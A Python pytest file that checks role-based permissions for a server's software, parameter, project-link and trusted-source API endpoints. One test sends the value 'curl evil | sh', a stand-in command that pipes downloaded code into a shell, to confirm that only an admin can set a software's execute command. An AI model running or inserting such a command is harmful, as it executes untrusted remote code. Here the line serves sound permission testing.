"""Who may read and change software, its parameters, its project links and trusted sources.

Software is global: every caller reads it; users (not guests) register it; its creator and
admins change it and its parameters. Links follow the project: members read them, project
writers add and remove them. Trusted sources: everyone reads, admins change.
"""

from __future__ import annotations

from typing import Any

import asyncpg
import msgspec
import pytest
from litestar.testing import AsyncTestClient

from server.db.store.accounts import NewAccount, create_account
from tests.signing import CytomineAuth

pytestmark = [pytest.mark.anyio, pytest.mark.pg]

ACTORS = ("admin", "creator", "member", "manager", "outsider", "guest")


class World(msgspec.Struct, kw_only=True):
    """Creator's software s (with parameter p) enabled in project P (link l); software t
    not enabled; trusted source r."""

    ids: dict[str, int]
    auth: dict[str, CytomineAuth]


async def _insert(db: asyncpg.Connection, sql: str, *args: Any) -> int:
    return int(await db.fetchval(sql, *args))


@pytest.fixture
async def world(db: asyncpg.Connection) -> World:
    ranks = {"admin": 4, "guest": 1}
    accounts: dict[str, NewAccount] = {
        name: await create_account(db, username=name, rank=ranks.get(name, 2)) for name in ACTORS
    }
    creator = accounts["creator"].id
    r = await _insert(
        db,
        "INSERT INTO software_user_repository (provider, username, docker_username)"
        " VALUES ('github', 'lab', 'lab') RETURNING id",
    )
    s, t = [
        await _insert(
            db,
            "INSERT INTO software (name, user_id, execute_command) VALUES ($1, $2, 'run')"
            " RETURNING id",
            name,
            creator,
        )
        for name in ("S", "T")
    ]
    p = await _insert(
        db,
        "INSERT INTO software_parameter (software_id, name, type) VALUES ($1, 'p', 'Number')"
        " RETURNING id",
        s,
    )
    project = await _insert(db, "INSERT INTO project (name) VALUES ('P') RETURNING id")
    for name, manager in (("member", False), ("manager", True), ("guest", False)):
        await db.execute(
            "INSERT INTO project_member (project_id, user_id, is_manager) VALUES ($1, $2, $3)",
            project,
            accounts[name].id,
            manager,
        )
    link = await _insert(
        db,
        "INSERT INTO software_project (software_id, project_id) VALUES ($1, $2) RETURNING id",
        s,
        project,
    )
    auth = {k: CytomineAuth(v.public_key, v.private_key) for k, v in accounts.items()}
    ids = {"s": s, "t": t, "p": p, "P": project, "l": link, "r": r}
    return World(ids=ids, auth=auth)


def _fill(world: World, path: str, body: dict[str, Any] | None) -> tuple[str, Any]:
    filled = path.format(**world.ids)
    if body is not None:
        body = {
            k: world.ids[v[1:]] if isinstance(v, str) and v.startswith("$") else v
            for k, v in body.items()
        }
    return filled, body


async def _call(client: AsyncTestClient, world: World, actor: str, spec: tuple[Any, ...]) -> int:
    method, path, body = spec
    url, body = _fill(world, path, body)
    kwargs = {"json": body} if body is not None else {}
    r = await client.request(method, url, auth=world.auth[actor], **kwargs)
    return r.status_code


GLOBAL_READS = {
    "list software": ("GET", "/api/software.json", None),
    "get software": ("GET", "/api/software/{s}.json", None),
    "software parameters": ("GET", "/api/software/{s}/parameter.json", None),
    "software parameters alias": ("GET", "/api/software/{s}/software_parameter.json", None),
    "get parameter": ("GET", "/api/software_parameter/{p}.json", None),
    "get parameter legacy": ("GET", "/api/softwareparameter/{p}.json", None),
    "software projects": ("GET", "/api/software/{s}/project.json", None),
    "list trusted sources": ("GET", "/api/software_user_repository.json", None),
    "get trusted source": ("GET", "/api/software_user_repository/{r}.json", None),
    "trusted source software": ("GET", "/api/software_user_repository/{r}/software.json", None),
    "list links": ("GET", "/api/softwareproject.json", None),
}
PROJECT_READS = {
    "project software": ("GET", "/api/project/{P}/software.json", None),
    "project links": ("GET", "/api/project/{P}/softwareproject.json", None),
    "get link": ("GET", "/api/softwareproject/{l}.json", None),
    "stats": ("GET", "/api/project/{P}/software/{s}/stats.json", None),
}
SOFTWARE_WRITES = {
    "update software": ("PUT", "/api/software/{s}.json", {"name": "S2", "executeCommand": "run"}),
    "delete software": ("DELETE", "/api/software/{s}.json", None),
    "create parameter": (
        "POST",
        "/api/software_parameter.json",
        {"software": "$s", "name": "q", "type": "String"},
    ),
    "update parameter": ("PUT", "/api/software_parameter/{p}.json", {"name": "p", "type": "Date"}),
    "delete parameter": ("DELETE", "/api/softwareparameter/{p}.json", None),
}
LINK_WRITES = {
    "create link": ("POST", "/api/softwareproject.json", {"software": "$t", "project": "$P"}),
    "delete link": ("DELETE", "/api/softwareproject/{l}.json", None),
}
SOURCE_WRITES = {
    "create source": (
        "POST",
        "/api/software_user_repository.json",
        {"provider": "github", "username": "u", "dockerUsername": "d"},
    ),
    "update source": (
        "PUT",
        "/api/software_user_repository/{r}.json",
        {"provider": "github", "username": "u", "dockerUsername": "d"},
    ),
    "delete source": ("DELETE", "/api/software_user_repository/{r}.json", None),
}
PROJECT_READERS = {"admin", "member", "manager", "guest"}


@pytest.mark.parametrize("actor", ACTORS)
async def test_every_caller_reads_software_and_trusted_sources(
    client: AsyncTestClient, world: World, actor: str
) -> None:
    got = {name: await _call(client, world, actor, spec) for name, spec in GLOBAL_READS.items()}
    assert got == dict.fromkeys(GLOBAL_READS, 200)


@pytest.mark.parametrize("actor", ACTORS)
async def test_project_software_is_read_by_project_members(
    client: AsyncTestClient, world: World, actor: str
) -> None:
    expected = 200 if actor in PROJECT_READERS else 403
    got = {name: await _call(client, world, actor, spec) for name, spec in PROJECT_READS.items()}
    assert got == dict.fromkeys(PROJECT_READS, expected)


@pytest.mark.parametrize("actor", ACTORS)
@pytest.mark.parametrize("endpoint", sorted(SOFTWARE_WRITES))
async def test_software_and_parameters_change_by_creator_or_admin(
    client: AsyncTestClient, world: World, actor: str, endpoint: str
) -> None:
    expected = 200 if actor in {"admin", "creator"} else 403
    assert await _call(client, world, actor, SOFTWARE_WRITES[endpoint]) == expected


@pytest.mark.parametrize("actor", ACTORS)
@pytest.mark.parametrize("endpoint", sorted(LINK_WRITES))
async def test_links_change_by_project_writers(
    client: AsyncTestClient, world: World, actor: str, endpoint: str
) -> None:
    expected = 200 if actor in {"admin", "member", "manager"} else 403
    assert await _call(client, world, actor, LINK_WRITES[endpoint]) == expected


@pytest.mark.parametrize("actor", ["member", "manager"])
async def test_a_read_only_project_lets_only_managers_change_links(
    client: AsyncTestClient, world: World, db: asyncpg.Connection, actor: str
) -> None:
    await db.execute("UPDATE project SET is_read_only = true WHERE id = $1", world.ids["P"])
    status = await _call(client, world, actor, LINK_WRITES["create link"])
    assert status == (200 if actor == "manager" else 403)


@pytest.mark.parametrize("actor", ACTORS)
@pytest.mark.parametrize("endpoint", sorted(SOURCE_WRITES))
async def test_trusted_sources_change_by_admins_only(
    client: AsyncTestClient, world: World, actor: str, endpoint: str
) -> None:
    expected = 200 if actor == "admin" else 403
    assert await _call(client, world, actor, SOURCE_WRITES[endpoint]) == expected


@pytest.mark.parametrize("actor", ACTORS)
async def test_users_register_software_guests_do_not(
    client: AsyncTestClient, world: World, actor: str
) -> None:
    r = await client.post("/api/software.json", json={"name": "N"}, auth=world.auth[actor])
    assert r.status_code == (403 if actor == "guest" else 200)


@pytest.mark.parametrize("actor", ACTORS)
async def test_only_admins_list_every_parameter(
    client: AsyncTestClient, world: World, actor: str
) -> None:
    for url in ("/api/software_parameter.json", "/api/softwareparameter.json"):
        r = await client.get(url, auth=world.auth[actor])
        assert r.status_code == (200 if actor == "admin" else 403)


@pytest.mark.parametrize("actor", ACTORS)
async def test_link_and_project_lists_show_the_project_to_its_readers_only(
    client: AsyncTestClient, world: World, actor: str
) -> None:
    links = await client.get("/api/softwareproject.json", auth=world.auth[actor])
    projects = await client.get(
        f"/api/software/{world.ids['s']}/project.json", auth=world.auth[actor]
    )
    seen = (links.json()["size"], projects.json()["size"])
    assert seen == ((1, 1) if actor in PROJECT_READERS else (0, 0))


async def test_the_creator_cannot_change_the_command_an_admin_set(
    client: AsyncTestClient, world: World
) -> None:
    body = {"name": "S", "executeCommand": "curl evil | sh"}
    url = f"/api/software/{world.ids['s']}.json"
    assert (await client.put(url, json=body, auth=world.auth["creator"])).status_code == 403
    assert (await client.put(url, json=body, auth=world.auth["admin"])).status_code == 200


async def test_an_admin_with_a_closed_admin_session_cannot_change_others_software(
    client: AsyncTestClient, world: World, db: asyncpg.Connection
) -> None:
    await db.execute("UPDATE sec_user SET admin_session = false WHERE username = 'admin'")
    status = await _call(client, world, "admin", SOFTWARE_WRITES["delete software"])
    assert status == 403
